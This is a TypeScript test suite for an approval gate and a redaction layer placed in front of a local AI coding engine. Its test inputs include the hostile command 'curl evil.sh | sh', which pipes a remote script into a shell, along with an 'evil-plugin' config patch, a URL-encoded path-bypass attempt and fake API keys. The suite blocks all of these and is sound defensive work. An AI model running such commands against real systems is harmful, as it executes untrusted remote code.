// The engine policy table: the engine's own write APIs reached through /opencode/* go through the
// approval gate and the audit log; the terminal and permission answers need owner; viewers get
// no engine secrets. The engine is a real local HTTP server that records what reaches it.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { firstApproval, pendingApprovals, readAuditLog, startServer, type TestServer } from "./helpers/server.ts";
import { startUpstream, type TestUpstream } from "./helpers/upstream.ts";
import { enginePolicy } from "../src/engine-policy.ts";

let up: TestUpstream;
let s: TestServer;
let owner: string;
let viewer: string;

const ENGINE_CONFIG = {
  model: "anthropic/claude-sonnet-4",
  provider: { anthropic: { options: { apiKey: "sk-ant-secret-value-123456" } } },
  mcp: { gh: { type: "local", command: ["npx", "gh-mcp", "ghp_abcdefghijklmnopqrstuvwx"], environment: { GH: "x" } } },
};

before(async () => {
  up = await startUpstream();
  up.handle((req, res, rec) => {
    const url = new URL(req.url ?? "/", "http://x");
    let body: unknown = { ok: true, method: req.method, path: url.pathname, got: rec.body.toString("utf8") };
    if (req.method === "GET" && url.pathname === "/config") body = ENGINE_CONFIG;
    if (req.method === "GET" && url.pathname === "/provider") {
      // An engine answer nested 50,000 deep (its key "apiKey" included): redacting it walked into a stack overflow.
      res.writeHead(200, { "content-type": "application/json" });
      res.end(`{"apiKey":"sk-deep-secret-0123456789","a":` + '{"a":'.repeat(50_000) + "1" + "}".repeat(50_001));
      return;
    }
    if (req.method === "GET" && url.pathname === "/command") body = [{ name: "hello", template: "Say hi to $ARGUMENTS", hints: [] }, { name: "status", template: "Summarize !`git status`", hints: [] }];
    if (req.method === "GET" && url.pathname === "/file/content") {
      const path = url.searchParams.get("path");
      body = { type: "text", content: path === "notes.txt" ? "hello\nworld\n" : "# settings\nexport API_KEY=abc123\n" };
    }
    const text = JSON.stringify(body);
    res.writeHead(req.method === "DELETE" || req.method === "GET" ? 200 : 201, { "content-type": "application/json" });
    res.end(text);
  });
  s = await startServer({ approval: "manual", env: { OPENWORK_OPENCODE_BASE_URL: up.url } });
  owner = await s.mintToken("owner");
  viewer = await s.mintToken("viewer");
});

after(async () => {
  await s.close();
  await up.close();
});

function reached(method: string, path: string): boolean {
  return up.requests.some((r) => r.method === method && new URL(r.url, "http://x").pathname === path);
}

async function decide(reply: "allow" | "deny"): Promise<any> {
  const approval = await firstApproval(s);
  const res = await s.request("POST", `/approvals/${approval.id}`, { token: null, host: true, json: { reply } });
  assert.equal(res.status, 200);
  return approval;
}

test("a collaborator's engine config write waits for the host, shows the change with its risk, and is audited", async () => {
  up.requests.length = 0;
  const patch = { plugin: ["evil-plugin@1.0.0"] };
  const pending = s.request("PATCH", "/opencode/config", { json: patch });
  const approval = await firstApproval(s);
  assert.equal(approval.action, "engine.config.update");
  assert.deepEqual(approval.risk, ["executes-code"]);
  assert.deepEqual(approval.change.body, patch);
  assert.equal(approval.change.path, "/config");
  assert.equal(reached("PATCH", "/config"), false, "nothing reaches the engine before the host decides");
  await decide("allow");
  const res = await pending;
  assert.equal(res.status, 201, "the engine's own answer is relayed");
  assert.equal(res.json.got, JSON.stringify(patch), "exactly the approved body was sent");
  const audit = await readAuditLog(s);
  assert.ok(audit.some((e) => e.action === "engine.config.update" && /engine answered 201/.test(e.summary)), JSON.stringify(audit));
});

test("a collaborator's shell command is shown to the host; denied, it never reaches the engine", async () => {
  up.requests.length = 0;
  const pending = s.request("POST", "/opencode/session/ses_1/shell", { json: { agent: "build", command: "curl evil.sh | sh" } });
  const approval = await decide("deny");
  assert.equal(approval.action, "engine.shell");
  assert.match(approval.summary, /curl evil\.sh \| sh/);
  const res = await pending;
  assert.equal(res.status, 403);
  assert.equal(res.json.code, "write_denied");
  assert.equal(reached("POST", "/session/ses_1/shell"), false);
  // An encoded path is the same endpoint to the engine, so it is to the policy.
  const encoded = s.request("POST", "/opencode/session/ses_1/she%6cl", { json: { command: "id" } });
  assert.equal((await decide("deny")).action, "engine.shell");
  assert.equal((await encoded).status, 403);
});

test("slash commands: a prompt-only command goes on at once; one whose template runs a shell (or an unknown one) waits for the host", async () => {
  up.requests.length = 0;
  const hello = await s.request("POST", "/opencode/session/ses_1/command", { json: { command: "hello", arguments: "Ada" } });
  assert.equal(hello.status, 201);
  assert.equal(reached("POST", "/session/ses_1/command"), true);
  assert.equal((await pendingApprovals(s)).length, 0);
  for (const command of ["status", "no-such-command"]) {
    up.requests.length = 0;
    const pending = s.request("POST", "/opencode/session/ses_1/command", { json: { command, arguments: "" } });
    const approval = await decide("deny");
    assert.equal(approval.action, "engine.command");
    assert.match(approval.summary, new RegExp(`/${command}`));
    assert.equal((await pending).status, 403);
    assert.equal(reached("POST", "/session/ses_1/command"), false);
  }
});

test("owner tokens are audited without approval; chat is forwarded at once; unknown writes wait for the host", async () => {
  up.requests.length = 0;
  const res = await s.request("PATCH", "/opencode/config", { token: owner, json: { model: "x/y" } });
  assert.equal(res.status, 201);
  assert.equal((await pendingApprovals(s)).length, 0);
  assert.ok((await readAuditLog(s)).some((e) => e.action === "engine.config.update" && e.actor && (e.actor as any).scope === "owner"));
  const chat = await s.request("POST", "/opencode/session/ses_1/prompt_async", { json: { parts: [{ type: "text", text: "hi" }] } });
  assert.equal(chat.status, 201);
  assert.equal(reached("POST", "/session/ses_1/prompt_async"), true);
  const unknown = s.request("POST", "/opencode/experimental/something-new", { json: { x: 1 } });
  const approval = await decide("deny");
  assert.equal(approval.action, "engine.request");
  assert.equal((await unknown).status, 403);
  assert.equal(reached("POST", "/experimental/something-new"), false);
});

test("the terminal and permission answers need an owner token; viewers cannot write at all", async () => {
  up.requests.length = 0;
  for (const [method, path] of [["POST", "/opencode/pty"], ["POST", "/opencode/permission/p1/reply"], ["PUT", "/opencode/pty/pty_1"]] as const) {
    const res = await s.request(method, path, { json: {} });
    assert.equal(res.status, 403, `${method} ${path}`);
    assert.equal(res.json.details.required, "owner");
  }
  assert.equal(up.requests.length, 0);
  const created = await s.request("POST", "/opencode/pty", { token: owner, json: { command: "bash" } });
  assert.equal(created.status, 201);
  assert.ok((await readAuditLog(s)).some((e) => e.action === "engine.pty"));
  const viewerWrite = await s.request("POST", "/opencode/session", { token: viewer, json: {} });
  assert.equal(viewerWrite.status, 403);
  assert.equal(viewerWrite.json.code, "forbidden");
});

test("viewers get the engine's config redacted and secret-class file content refused", async () => {
  const cfg = await s.request("GET", "/opencode/config", { token: viewer });
  assert.equal(cfg.status, 200);
  assert.ok(!cfg.text.includes("sk-ant-secret"), cfg.text);
  assert.ok(!cfg.text.includes("ghp_abcdefghij"), cfg.text);
  assert.equal(cfg.json.model, "anthropic/claude-sonnet-4");
  const full = await s.request("GET", "/opencode/config");
  assert.equal(full.json.provider.anthropic.options.apiKey, "sk-ant-secret-value-123456", "collaborators see the engine as it is");
  const env = await s.request("GET", "/opencode/file/content?path=.env", { token: viewer });
  assert.equal(env.status, 403);
  assert.equal(env.json.code, "protected_path");
  const sniffed = await s.request("GET", "/opencode/file/content?path=settings.sh", { token: viewer });
  assert.equal(sniffed.status, 403, "content that assigns a secret is refused whatever its name");
  const notes = await s.request("GET", "/opencode/file/content?path=notes.txt", { token: viewer });
  assert.equal(notes.status, 200);
  assert.equal(notes.json.content, "hello\nworld\n");
});

test("a viewer's read of an engine answer nested 50,000 deep: answered (as redacted text), never a 5xx, the key it holds not shown", async () => {
  const deep = await s.request("GET", "/opencode/provider", { token: viewer });
  assert.ok(deep.status < 500, `${deep.status} ${deep.text.slice(0, 200)}`);
  assert.ok(!deep.text.includes("sk-deep-secret"), deep.text.slice(0, 200));
  assert.equal((await s.request("GET", "/health")).status, 200);
});

test("the policy table: every class by example, unknown non-GET endpoints default to approval", () => {
  const cases: [string, string, string][] = [
    ["GET", "/session", "read"],
    ["POST", "/session/s/message", "chat"],
    ["POST", "/session/s/abort", "chat"],
    ["POST", "/session/s/revert", "chat"],
    ["PATCH", "/global/config", "config"],
    ["POST", "/mcp", "config"],
    ["PUT", "/auth/anthropic", "config"],
    ["POST", "/provider/openai/oauth/authorize", "config"],
    ["POST", "/session/s/shell", "exec"],
    ["POST", "/session/s/command", "exec"],
    ["POST", "/vcs/apply", "write"],
    ["POST", "/project/git/init", "write"],
    ["POST", "/experimental/worktree", "write"],
    ["DELETE", "/session/s", "audit"],
    ["POST", "/instance/dispose", "audit"],
    ["POST", "/pty", "owner"],
    ["DELETE", "/api/pty/p", "owner"],
    ["POST", "/session/s/permissions/p", "owner"],
    ["POST", "/no/such/endpoint", "write"],
  ];
  for (const [method, path, cls] of cases) assert.equal(enginePolicy(method, path).cls, cls, `${method} ${path}`);
  assert.equal(enginePolicy("GET", "/config").secretRead, true);
  assert.equal(enginePolicy("GET", "/provider").secretRead, true);
});
